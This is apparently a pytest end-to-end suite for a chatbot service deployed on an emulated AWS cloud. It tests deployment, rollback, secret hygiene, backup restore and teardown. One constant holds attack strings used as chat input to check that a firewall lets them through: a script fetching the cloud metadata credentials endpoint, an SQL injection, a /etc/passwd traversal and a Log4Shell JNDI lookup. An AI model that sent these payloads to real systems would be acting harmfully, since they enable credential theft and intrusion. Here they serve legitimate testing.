"""The profile `production` on the embedded cloud, once through its life: used, released, taken back, removed, taken up
again, deleted. The tests build on one another in the order in which they stand."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from playwright.sync_api import expect

from cli import console
from cli.steps import Steps
from infra.aws.deployment import AWSDeployment
from infra.local.embedded import Embedded
from infra.spec import ROOT, load
from tests.browsing import Visit, chromium
from tests.deploying import embedded_cloud
from tests.e2e.conftest import DeployedBot

pytestmark = pytest.mark.timeout(600)

QUESTION = "What is a cold start?"
# What the firewall's rules for bodies would take for an attack, as somebody asks a bot about it.
CODE = """\
<script>fetch("http://169.254.169.254/latest/meta-data/iam/")</script>
SELECT * FROM users WHERE name = '' OR '1'='1'; -- ../../etc/passwd ${jndi:ldap://host/a}
"""


@pytest.fixture(scope="module")
def bot(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DeployedBot]:
    with embedded_cloud(tmp_path_factory.mktemp("production") / "aws") as cloud:
        done = cloud.wordup("deploy", "--profile", "production")
        outputs = cloud.wordup("outputs")
        yield DeployedBot(url=done["url"], key=outputs["access_key"], answer=done["answer"], cloud=cloud)


def versions(bot: DeployedBot) -> list[str]:
    listed = bot.cloud.client("lambda").list_versions_by_function(FunctionName="wordup")["Versions"]
    return [each["Version"] for each in listed if each["Version"] != "$LATEST"]


def live(bot: DeployedBot) -> str:
    return bot.cloud.client("lambda").get_alias(FunctionName="wordup", Name="live")["FunctionVersion"]


def release(bot: DeployedBot, **settings: Any) -> None:
    """Deploys a change of the bot's settings, which wordup.toml would hold."""
    spec = load(profile="production")
    changed = msgspec.structs.replace(spec, bot=msgspec.structs.replace(spec.bot, **settings))
    with Steps(console.progress) as report:
        AWSDeployment(changed, Embedded(bot.cloud.folder)).deploy(report)


def test_what_an_account_alone_takes_is_left_out_by_name(bot: DeployedBot):
    again = bot.cloud.run("deploy", "--profile", "production", "--json")
    assert "Nothing changes." in again.stderr
    assert "wordup-guard" in again.stderr
    assert "wordup-edge" in again.stderr
    stacks = {stack["StackName"] for stack in bot.cloud.client("cloudformation").describe_stacks()["Stacks"]}
    assert stacks == {"CDKToolkit", "wordup-account", "wordup-data", "wordup-operations", "wordup-api"}


def test_what_the_embedded_cloud_ignores_is_applied(bot: DeployedBot):
    described = bot.cloud.client("dynamodb").describe_continuous_backups(TableName="wordup")
    recovery = described["ContinuousBackupsDescription"]["PointInTimeRecoveryDescription"]
    assert recovery["PointInTimeRecoveryStatus"] == "ENABLED"
    reserved = bot.cloud.client("lambda").get_function_concurrency(FunctionName="wordup")
    assert reserved["ReservedConcurrentExecutions"] == 50


def test_page_converses_in_a_browser(bot: DeployedBot):
    with chromium() as browser:
        visit = Visit(browser)
        visit.sign_in(bot.url, bot.key)
        expect(visit.ask_whole(QUESTION)).to_contain_text("cold start")
        visit.close()
    listed = bot.sign_in().http.get("/v1/conversations").json()
    assert QUESTION in [each["title"] for each in listed["conversations"]]


def test_longest_message_with_code_comes_through_whole(bot: DeployedBot):
    message = (CODE * 200)[:16_000]
    caller = bot.sign_in()
    answered = caller.ask(message)
    assert answered.status_code == 200
    exported = caller.http.get(f"/v1/conversations/{answered.json()['conversation_id']}/export").json()
    assert exported["messages"][0]["content"] == message
    assert caller.ask(message + "!").json()["code"] == "invalid_field"


def test_body_that_is_no_object_stops_at_the_api_in_the_bots_own_form(bot: DeployedBot):
    http = bot.sign_in().http
    for body in (b"{", b"[1]", b""):
        refused = http.post("/chat", content=body, headers={"content-type": "application/json"})
        assert (refused.status_code, refused.json()["code"]) == (400, "malformed_json")
        assert refused.headers["content-type"] == "application/problem+json"
        assert refused.headers["x-content-type-options"] == "nosniff"


def test_release_takes_over_and_is_taken_back(bot: DeployedBot):
    before = live(bot)
    caller = bot.sign_in()
    release(bot, message_characters=20)
    after = live(bot)
    assert after != before
    assert caller.ask("What does a cold start cost me?").status_code == 400

    alias = {"FunctionName": "wordup", "Name": "live"}
    bot.cloud.client("lambda").update_alias(**alias, FunctionVersion=before)
    assert caller.ask("What does a cold start cost me?").status_code == 200


def test_versions_are_kept_to_go_back_to_and_older_ones_pruned(bot: DeployedBot):
    release(bot, message_characters=40)
    kept = versions(bot)
    assert kept == ["2", "3"]
    assert live(bot) == kept[-1]
    assert bot.sign_in().ask("What does a cold start cost me, and you?").status_code == 200


def test_secrets_stand_only_in_the_secret(bot: DeployedBot, tmp_path: Path):
    cloud, given = bot.cloud, tmp_path / "provider-key"
    given.write_text("sk-proj-0123456789abcdef")
    cloud.wordup("secret", "set", "provider_key", "--from-file", str(given), "--to", "local")
    assert bot.sign_in().ask(QUESTION).status_code == 200
    secrets = cloud.client("secretsmanager")
    secret = json.loads(secrets.get_secret_value(SecretId="wordup")["SecretString"])
    assert secret["provider_key"] == given.read_text()
    words = [bot.key, secret["provider_key"], *secret["signing"]["keys"].values()]
    stacks = cloud.client("cloudformation").describe_stacks()["Stacks"]
    logs = cloud.client("logs")
    found = json.dumps(
        [
            cloud.client("lambda").list_versions_by_function(FunctionName="wordup"),
            stacks,  # with their outputs
            *(cloud.client("cloudformation").get_template(StackName=stack["StackName"]) for stack in stacks),
            *(
                logs.filter_log_events(logGroupName=group["logGroupName"])
                for group in logs.describe_log_groups()["logGroups"]
            ),
            cloud.client("cloudwatch").describe_alarms()["MetricAlarms"],
            *(path.read_text(errors="replace") for path in (ROOT / "build" / "cdk").rglob("*.json")),
        ],
        default=str,
    )
    assert "WORDUP_SIGNING_KEY_REF" in found
    assert "ApiId" in found
    assert [word for word in words if word in found] == []


def test_backup_is_restored_as_the_drill_says(bot: DeployedBot, tmp_path: Path):
    cloud, file = bot.cloud, str(tmp_path / "drill.jsonl.gz")
    caller = bot.sign_in()
    asked = caller.ask(QUESTION).json()
    conversation = f"/v1/conversations/{asked['conversation_id']}"
    cloud.client("dynamodb").restore_table_to_point_in_time(
        SourceTableName="wordup", TargetTableName="wordup-drill", UseLatestRestorableTime=True
    )
    assert caller.http.delete(conversation).status_code == 204
    assert caller.http.get(conversation).status_code == 404

    exported = cloud.wordup("data", "export", file, "--from", "local", "--name", "wordup-drill")
    imported = cloud.wordup("data", "import", file, "--to", "local")
    assert imported["rows"] == exported["rows"]
    assert imported["written"] > 0
    [question, answer] = caller.http.get(conversation).json()["messages"]
    assert (question["content"], answer["content"]) == (QUESTION, asked["message"])
    cloud.client("dynamodb").delete_table(TableName="wordup-drill")


def test_destroy_keeps_exactly_what_it_lists_and_deletes_it_when_told(bot: DeployedBot):
    cloud = bot.cloud
    asked = bot.sign_in().ask(QUESTION).json()
    removal = cloud.wordup("destroy")
    assert removal["left"] == []
    assert {"stack wordup-api", "stack wordup-operations", "function wordup", "dashboard wordup"} <= set(
        removal["removed"]
    )
    logs = ["log group /aws/lambda/wordup", "log group /aws/apigateway/wordup"]
    data = ["stack wordup-data", "table wordup", "secret wordup", *logs]
    assert [kept["name"] for kept in removal["kept"]] == [*data, "stack CDKToolkit"]
    assert all(kept["why"] for kept in removal["kept"])
    there = {stack["StackName"] for stack in cloud.client("cloudformation").describe_stacks()["Stacks"]}
    assert there == {"CDKToolkit", "wordup-data"}
    assert cloud.client("lambda").list_functions()["Functions"] == []
    assert cloud.client("cloudwatch").describe_alarms()["MetricAlarms"] == []

    cloud.wordup("deploy", "--profile", "production")
    after = cloud.wordup("outputs")
    assert after["access_key"] == bot.key
    caller = cloud.caller(after["url"], after["access_key"])
    assert caller.http.get(f"/v1/conversations/{asked['conversation_id']}").status_code == 200

    gone = cloud.wordup("destroy", "--delete-data")
    assert gone["left"] == []
    assert set(data) <= set(gone["removed"])
    assert not cloud.folder.exists()
